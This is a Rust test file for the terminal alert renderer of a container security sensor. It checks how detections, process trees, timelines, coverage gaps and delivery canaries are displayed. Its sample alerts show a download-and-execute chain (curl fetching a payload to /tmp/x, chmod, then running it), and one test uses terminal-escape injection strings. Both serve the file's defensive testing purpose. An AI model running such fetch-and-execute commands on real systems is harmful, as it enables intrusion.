//! What people see, line by line, and what nobody can make them see.

use jiff::tz::TimeZone;
use unicode_width::UnicodeWidthStr;

use super::*;
use crate::canary::RULE_ID;
use crate::sink::sample;

fn show(message: &Message, width: usize) -> String {
    render(message, &View { width, colour: false, zone: TimeZone::UTC })
}

#[test]
fn an_alert_fits_on_a_screen() {
    let expected = "\
\x20HIGH  curl downloads into a container          T1105 · 12:03:14.281
  container  web-1  8f3a2c91d0b4  nginx:1.25  docker  steady
  process    curl -sSLo /tmp/x http://10.0.0.2/payload
             pid 4242  root
  lineage    containerd-shim-runc-v2 ─ sh ─ curl
  to         10.0.0.2:80 tcp   ↑ 92 B  ↓ 1.2 MiB
  file       /tmp/x
  timeline       0 ms  ran        curl -sSLo /tmp/x http://10.0.0.2…
                12 ms  connected  10.0.0.2:80 tcp
                15 ms  wrote      /tmp/x   1.2 MiB
                19 ms  closed     10.0.0.2:80   ↑ 92 B  ↓ 1.2 MiB
                20 ms  exited     0
  next       1. Keep the file: docker cp web-1:/tmp/x .
             2. Ask the owner of the image whether this download is
                meant to happen; if nobody knows it, pause the
                container and go on with the runbook for intrusions.
  alert      #7  01932b9e-4c11-7abc-8def-0123456789ab  rule 6f2f0b5…

";
    assert_eq!(show(&sample::message(), 68), expected);
}

#[test]
fn a_pod_has_a_row_of_its_own() {
    let shown = show(&Message::Alert(Box::new(sample::in_pod())), 90);
    let expected = "\
\x20 container  web-1  8f3a2c91d0b4  nginx:1.25  docker  steady
  pod        shop/web-65747dc769-pjztg  Deployment/web  as shop  on node-1
             app=web  tier=front
  process ";
    assert!(shown.contains(expected), "{shown}");
}

#[test]
fn connections_have_names_and_ends() {
    let shown = show(&Message::Alert(Box::new(sample::connections())), 80);
    let expected = "\
\x20 to         10.0.0.2:80 tcp  files.example.com   ↑ 3.0 MiB  ↓ 92 B
             10.0.0.2:443 tcp  files.example.com
  from       10.0.0.2:50123 tcp
  timeline       0 ms  ran        curl -sSLo /tmp/x http://10.0.0.2/payload
                10 ms  connected  10.0.0.2:443 tcp  files.example.com
                11 ms  refused    10.0.0.2:443 tcp  files.example.com
                12 ms  connected  10.0.0.2:80 tcp  files.example.com
               600 ms  accepted   10.0.0.2:50123 tcp
                5.0 s  moved      10.0.0.2:80   ↑ 3.0 MiB  ↓ 92 B  files.exampl…
";
    assert!(shown.contains(expected), "{shown}");
}

#[test]
fn what_a_correlation_found_stands_beside_its_condition() {
    let shown = show(&Message::Alert(Box::new(sample::correlated())), 80);
    let expected = "\
\x20 correlated 3 values of DestinationPort ≥ 3 in 10 s   4 matches within 900 ms
             ContainerName web-1  User none
  to         10.0.0.2:22 tcp
             10.0.0.2:80 tcp
             10.0.0.2:443 tcp
  processes  4240 sh -c curl -sSLo /tmp/x http://10.0.0.2/payload
             └─ 4242 curl -sSLo /tmp/x http://10.0.0.2/payload
  timeline       0 ms  sh    connected  10.0.0.2:22 tcp
                12 ms  curl  connected  10.0.0.2:80 tcp
               900 ms  curl  connected  10.0.0.2:443 tcp
             and 1 more steps
";
    assert!(shown.contains(expected), "{shown}");
}

#[test]
fn identity_is_told_with_what_is_odd_about_it() {
    let shown = show(&Message::Alert(Box::new(sample::stranger())), 80);
    let expected = "\
\x20 container  8f3a2c91d0b4  nginx:1.25  docker  interactive
             unverified: no runtime knows this id
             in a container within it  inner › c0ffeec0ffee
             sha256:0123456789ab
  pod        shop/web-0  Deployment/web  on node-1
  process    curl -sSLo /tmp/x http://10.0.0.2/payload
             pid 4242  root  logged in as uid 1000  on pts/3
  program    not in image; written 3.0 s before by wget[4200]
  identity   cgroup left: cgroup says host, mount namespace says 8f3a2c91d0b4
  lineage ";
    assert!(shown.contains(expected), "{shown}");
}

#[test]
fn the_sensor_says_what_it_does_not_see() {
    let expected = "\
\x20▲ watching 3 of 4 hooks · 6 detections · 231 processes · 3 containers · 180 ms · Linux 6.18.5    12:03:14.281
   not seen here  renames in other mount namespaces · module loads
   why, hook by hook: tidewaiter check
   this kernel does not tell task_struct.loginuid
";
    assert_eq!(show(&sample::coverage(), 110), expected);
}

#[test]
fn a_heartbeat_disturbs_nobody() {
    assert_eq!(show(&sample::heartbeat(), 110), "");
}

#[test]
fn a_canary_is_one_line_and_its_failure_is_told() {
    let Message::Alert(mut alert) = sample::message() else { panic!("no alert") };
    alert.detection.id = RULE_ID.to_owned();
    (alert.level, alert.related) = (sigma::Level::Informational, Vec::new());
    alert.story.stages.clear();
    let told = show(&Message::Alert(alert.clone()), 110);
    assert!(told.lines().count() == 1 && told.starts_with(" · delivery canary, number "), "{told}");
    alert.level = sigma::Level::Low;
    assert!(show(&Message::Alert(alert), 110).lines().count() > 5, "more than a canary");
    let failed = show(&sample::canary_failed(), 110);
    assert!(
        failed.starts_with(" ▲ the delivery canary did not come through ")
            && failed.contains("\n   its alert was not confirmed by syslog tls://loghost:6514"),
        "{failed}"
    );
    assert!(
        show(&sample::canary_well(), 110)
            .starts_with(" ● the delivery canary comes through again after 30.4 s")
    );
}

#[test]
fn losses_and_the_end_are_told() {
    let expected = "\
\x20▲ 12,411 records lost: what they would have told is not in any alert  12:03:14.281
      12,408  network_connect  ring full  in web-1
           3  syslog udp://127.0.0.1:514  queue full
";
    assert_eq!(show(&sample::loss(), 83), expected);
    let expected = "\
\x20● 981,275 records counted instead of told: more than one container's share  12:03:14.281
     980,000  network_connect  10.0.0.2:80 tcp  in web-1
          75  network_connect  others  in web-1
       1,200  file_open  make pid 4242
";
    assert_eq!(show(&sample::aggregation(), 89), expected);
    let expected = " ■ stopped after 4 alerts from 120,034 events  12:03:14.281\n";
    assert_eq!(show(&sample::stopped(), 59), expected);
}

#[test]
fn changed_rules_are_told_and_their_mistakes() {
    let expected = "\
\x20● 23 rules in force · 1 filter · 12 added · 1 changed · 12 ms         12:03:14.281
   added    Odd port  6f2f0b5c-0d5e-4c58-9d0e-3b3f6c7b1a11
   added    Metadata
   added    and 10 more
   changed  curl downloads
   2 matches undecided  their rules are gone
";
    assert_eq!(show(&sample::reload(), 83), expected);
    let expected = "\
\x20▲ the changed rules have 5 mistakes: the 23 rules of before stay in force  12:03:14.281
   /etc/tidewaiter/rules/odd.yml:3:8
     `hihg` is no level  write `high`
   /rules/b cannot be read: gone
   and 3 more: the log on standard error
";
    assert_eq!(show(&sample::refusal(), 88), expected);
}

#[test]
fn rules_over_their_budget_are_told_with_the_remedy() {
    let expected = "\
\x20▲ 2 rules take more time than their budget                                          12:03:14.281
    1.6 % of a core  Odd port  1,200,000 runs of 820 ns  rules/odd.yml
    0.2 % of a core  Metadata  1,200,000 runs of 52 µs  rules/odd.yml
   let it ask for a plain value first (a program's name, a path), so that fewer events are run
   through it; or leave it out
";
    assert_eq!(show(&sample::cost(), 97), expected);
}

#[test]
fn a_chain_is_told_as_a_tree_and_a_timeline() {
    let expected = "\
\x20CRITICAL  curl downloads into a container                                                T1105 · 12:03:14.281
  container  web-1  8f3a2c91d0b4  nginx:1.25  docker  steady
  process    curl -sSLo /tmp/x http://10.0.0.2/payload   pid 4242  root
  lineage    containerd-shim-runc-v2 ─ sh ─ curl
  story      brought in ▸ run ▸ called home   alert 2 of 00000000-0000-0000-0000-000000000009
  to         10.0.0.2:80 tcp   ↑ 20 MiB  ↓ 1.2 MiB
  file       /tmp/x
  also       A file that came in was run  T1105  high  ×3
  processes  4240 sh -c /tmp/job
             ├─ 4242 curl -sSLo /tmp/x http://10.0.0.2/payload
             ├─ 4243 chmod +x /tmp/x
             └─ 4244 /tmp/x --quiet
                └─ 4245 id
             and 2 more
  timeline       0 ms  curl   ran        curl -sSLo /tmp/x http://10.0.0.2/payload   ◆ curl downloads into a …
                12 ms  curl   connected  10.0.0.2:80 tcp
                15 ms  curl   wrote      /tmp/x   1.2 MiB
                19 ms  curl   closed     10.0.0.2:80   ↑ 92 B  ↓ 1.2 MiB
                20 ms  curl   exited     0
                40 ms  chmod  made       /tmp/x executable
                60 ms  x      ran        /tmp/x --quiet   ◆ A file that came in was run
                70 ms  x      connected  10.0.0.2:80 tcp
               900 ms  x      closed     10.0.0.2:80   ↑ 20 MiB  ↓ 600 B
  next       1. Keep the file: docker cp web-1:/tmp/x .
             2. Ask the owner of the image whether this download is meant to happen; if nobody knows it, pause
                the container and go on with the runbook for intrusions.
  alert      #7  01932b9e-4c11-7abc-8def-0123456789ab  rule 6f2f0b5e-6f0a-4d0a-9e55-0c1f7a8a1d01

";
    assert_eq!(show(&Message::Alert(Box::new(sample::chain())), 110), expected);
}

#[test]
fn no_line_is_wider_than_the_terminal() {
    for message in [
        sample::message(),
        Message::Alert(Box::new(sample::hostile())),
        sample::coverage(),
        Message::Alert(Box::new(sample::connections())),
        Message::Alert(Box::new(sample::chain())),
        sample::loss(),
        sample::tampering(),
        sample::aggregation(),
        sample::reload(),
        sample::cost(),
        sample::refusal(),
        sample::stopped(),
    ] {
        for width in [40, 57, 80, 100, 140] {
            for line in show(&message, width).lines() {
                assert!(line.width() <= width, "{width}: {line}");
                assert_eq!(line, line.trim_end(), "blanks at the end");
            }
        }
    }
}

#[test]
fn no_text_can_forge_a_line_or_move_the_cursor() {
    let hostile = Message::Alert(Box::new(sample::hostile()));
    let plain = show(&hostile, 100);
    for line in plain.lines() {
        assert!(!line.chars().any(escape::is_unsafe), "{line:?}");
        assert!(!line.starts_with("<10>"), "{line:?}");
    }
    assert!(plain.contains(r"x\x1b[2J"), "{plain}");
    assert!(plain.contains(r"\u{202e}"), "{plain}");

    // With colour the only escape sequences are our own: select graphic rendition.
    let painted = render(&hostile, &View { width: 100, colour: true, zone: TimeZone::UTC });
    for sequence in painted.split('\u{1b}').skip(1) {
        let end = sequence.find(|c: char| c.is_ascii_alphabetic()).unwrap();
        let (parameters, rest) = sequence.split_at(end);
        assert!(rest.starts_with('m'), "{sequence:?}");
        assert!(parameters.bytes().all(|byte| b"[0123456789;".contains(&byte)), "{sequence:?}");
    }
    assert_eq!(painted.lines().count(), plain.lines().count());
}

#[test]
fn colour_changes_no_letter() {
    let colour = render(&sample::message(), &View { width: 100, colour: true, zone: TimeZone::UTC });
    let stripped = anstream::adapter::strip_str(&colour).to_string();
    assert_ne!(colour, stripped);
    assert_eq!(stripped, show(&sample::message(), 100));
}
